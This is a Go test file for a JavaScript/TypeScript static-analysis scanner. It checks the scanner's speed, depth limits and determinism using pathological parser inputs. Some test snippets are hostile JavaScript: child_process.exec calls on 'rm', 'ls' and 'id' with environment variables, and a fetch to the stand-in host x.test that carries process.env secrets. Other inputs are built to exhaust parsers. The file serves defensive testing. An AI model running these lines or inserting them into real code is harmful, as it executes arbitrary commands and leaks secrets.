package javascript_test

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/caisson-dev/caisson/policy/facts"
)

// patience is more than any text takes on any machine, unless what it takes
// grows with its square. bench/policy holds hostile texts to their time.
const patience = 20 * time.Second

func TestHostile(t *testing.T) {
	for name, c := range map[string]struct {
		code string
		want string // a kind of dynamic fact, "" for none in particular
	}{
		"parentheses":        {strings.Repeat("(", 5_000_000), facts.DynLimit},
		"few parentheses":    {strings.Repeat("(", 100_000), facts.DynTooDeep},
		"brackets":           {strings.Repeat("[", 150) + strings.Repeat("]", 150), ""},
		"broken":             {strings.Repeat("function ( : [ { \" ' ) ] => x `:\n", 7000), ""},
		"broken classes":     {strings.Repeat("class { ( [ get set static => } ", 7000), ""},
		"error recovery":     {strings.Repeat("class extends function = ? : return ' let ` => ...\n", 5000), ""},
		"words":              {strings.Repeat("if else for while do ", 12_000), ""},
		"templates":          {strings.Repeat("`${", 190) + strings.Repeat("}`", 190), ""},
		"unclosed templates": {strings.Repeat("`${ a ", 20_000), ""},
		"unary":              {strings.Repeat("!", 200_000) + "x", facts.DynTooDeep},
		"sum":                {"x = 'a'" + strings.Repeat("+'a'", 40_000), facts.DynTooDeep},
		"members":            {"a" + strings.Repeat(".b", 60_000), facts.DynTooDeep},
		"calls":              {"a" + strings.Repeat("()", 60_000), facts.DynTooDeep},
		"ternaries":          {strings.Repeat("a?b:", 40_000) + "c", facts.DynTooDeep},
		"else":               {strings.Repeat("if(a){}else ", 20_000) + "{}", facts.DynTooDeep},
		"arrows":             {strings.Repeat("a=>", 50_000) + "a", facts.DynTooDeep},
		"commas":             {"x=[" + strings.Repeat(",", 200_000) + "]", ""},
		"regexp":             {"/" + strings.Repeat("(", 90_000) + "/", facts.DynTooDeep},
		"NUL":                {"ev\x00al('1')", facts.DynInvisible},
		"not text":           {"\xff\xfe\xff" + strings.Repeat("\x80", 1000), ""},
		"doubling text":      {"let s='ab';" + strings.Repeat("s+=s;", 1000) + "eval(s)", facts.DynOpaqueCode},
		"doubling arrays":    {"let a=[1];" + strings.Repeat("a=[a,a,a,a];", 1000) + "require('x')(a)", ""},
		"doubling concat":    {"let a=[1];" + strings.Repeat("a=a.concat(a);", 200) + "f(a);require('x')(a)", ""},
		"self reference":     {"const a=[];a.push(a);a[0]=a;const o={};o.o=o;o.a=a;require('x')(a,o);''+a;a.join();JSON.stringify(o);a.flat()", ""},
		"cyclic class":       {"class A extends A {}; new A().x; class B { constructor(){ new B() } }; new B()", ""},
		"cyclic base":        {"const o={};Object.setPrototypeOf(o,o);o.x;const p=Object.create(p);p.y", ""},
		"recursion":          {"function f(n){return f(n+1)+f(n+'a')}f(0)", ""},
		"mutual recursion": {many(40, func(i int) string {
			return fmt.Sprintf("function f%d(x){%s}", i, many(40, func(j int) string { return fmt.Sprintf("f%d(x+%d);", j, j) }))
		}) + "f0('a')", ""},
		"fresh closures":    {"const k=n=>()=>{" + many(9, func(i int) string { return fmt.Sprintf("k(n+%d)();", i) }) + "};k(0)()", ""},
		"nested loops":      {strings.Repeat("for(let i=0;i<400;i++){", 100) + "x+=i" + strings.Repeat("}", 100), ""},
		"many loops":        {"let s='';" + strings.Repeat("for(let i=0;i<399;i++){s+='x'.repeat(9999)}", 3000), ""},
		"code in code":      {quoted(9), facts.DynTooDeep},
		"quine":             {"const s='eval(s)';eval(s)", ""},
		"eval of itself":    {"function f(){eval('f()');new Function('f()')()}f()", ""},
		"replace":           {"'a'.repeat(60000).replace(/a/g,x=>x+x).replace(/a*/g,'b')", ""},
		"split":             {"'a'.repeat(60000).split('').map(x=>x.split('').map(y=>y+y).join('')).join('')", ""},
		"getters":           {"const o={get a(){return this.b},get b(){return this.a}};o.a", ""},
		"spread":            {"let o={};" + strings.Repeat("o={...o,...o,x:o};", 2000) + "require('x')(o)", ""},
		"many alternatives": {"let c='a';" + many(200, func(i int) string { return fmt.Sprintf("if(x)c='b%d';", i) }) + "require('child_process').exec(c+c+c)", ""},
	} {
		t.Run(name, func(t *testing.T) {
			for _, lang := range []facts.Lang{facts.JavaScript, facts.TypeScript} {
				start := time.Now()
				d := scan(t, lang, c.code)
				if took := time.Since(start); took > patience {
					t.Errorf("%s took %v", lang, took)
				}
				if c.want == "" {
					continue
				}
				found := false
				for _, f := range d.Dynamic {
					found = found || f.Kind == c.want
				}
				if !found && len(d.Dynamic) == 0 {
					t.Errorf("%s: no %s in %v", lang, c.want, d.Dynamic)
				}
			}
		})
	}
}

func many(n int, f func(i int) string) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(f(i))
	}
	return b.String()
}

// quoted is code in code in code.
func quoted(n int) string {
	code := "x"
	for range n {
		q, _ := json.Marshal(code)
		code = "eval(" + string(q) + ")"
	}
	return code
}

// A context that is over ends the walk, and that is said.
func TestContextEnds(t *testing.T) {
	t.Parallel()
	tb, err := shipped()
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	d := facts.Scan(ctx, tb, dispatcher, facts.Limits{}, facts.JavaScript, []byte("require('fs')"))
	if len(d.Dynamic) == 0 {
		t.Fatal("nothing says that the scan did not happen")
	}
}

// The same text gives the same facts, in the same order.
func TestDeterministic(t *testing.T) {
	t.Parallel()
	code := program() + `
const t = { a: 'rm', b: 'ls', c: 'id' }
for (const k in t) require('child_process').exec(t[k] + ' ' + process.env[k])
fetch('http://x.test', { headers: { a: process.env.A, b: process.env.B }, body: { ...t, d: process.env.D } })
`
	first, err := json.Marshal(scan(t, facts.JavaScript, code))
	if err != nil {
		t.Fatal(err)
	}
	for range 20 {
		again, _ := json.Marshal(scan(t, facts.JavaScript, code))
		if string(again) != string(first) {
			t.Fatalf("first:\n%s\nagain:\n%s", first, again)
		}
	}
}

func TestPlaces(t *testing.T) {
	t.Parallel()
	d := scan(t, facts.JavaScript, "let é = 1\n  require('child_process').exec('id')\n")
	if len(d.Calls) != 1 {
		t.Fatalf("calls: %v", d.Calls)
	}
	if got, want := d.Calls[0].Pos, (facts.Pos{Line: 2, Col: 3, EndLine: 2, EndCol: 38}); got != want {
		t.Errorf("place %v, want %v", got, want)
	}
}

func FuzzExtract(f *testing.F) {
	for _, code := range []string{
		"require('child_process').exec('id')", "const {a: [b = 1, ...c], ...d} = e; for (const x of y) z += x",
		"class A extends B { #c = 1; static { super.x() } get d() { return this.#c } }", "`${a}${`b`}`",
		"eval('eval(\"1\")')", "a?.[b]?.(...c) ?? d", "async function* f() { yield* await g }", "x = /a[/]b/g.exec(y)",
		"let s = ''; for (let i = 0; i < 10; i++) s += String.fromCharCode(i)", "import a, {b as c} from 'd'; export * from 'e'",
		"\\u0065val('x')", "({get a() {}, set a(b) {}, async *c() {}, [d]: e})", "<a b={c}>{d}</a>", "label: for (;;) { break label }",
		"new Function('a', 'return a')(1)", "'use strict'; with (a) b", "function f(a: number): void {} enum E { A = 1 }",
	} {
		f.Add(code)
	}
	f.Fuzz(func(t *testing.T, code string) {
		if len(code) > 4096 {
			return
		}
		for _, lang := range []facts.Lang{facts.JavaScript, facts.TypeScript} {
			start := time.Now()
			d := scan(t, lang, code)
			if took := time.Since(start); took > patience {
				t.Errorf("took %v", took)
			}
			for _, dyn := range d.Dynamic {
				if strings.Contains(dyn.Detail, "panicked") {
					t.Fatalf("%s: %s", lang, dyn.Detail)
				}
			}
			first, err := json.Marshal(d)
			if err != nil {
				t.Fatal(err)
			}
			if len(first) > 16<<20 {
				t.Fatalf("%d bytes of facts", len(first))
			}
			if again, _ := json.Marshal(scan(t, lang, code)); string(again) != string(first) {
				t.Fatalf("%s: two scans differ:\n%s\n%s", lang, first, again)
			}
		}
	})
}
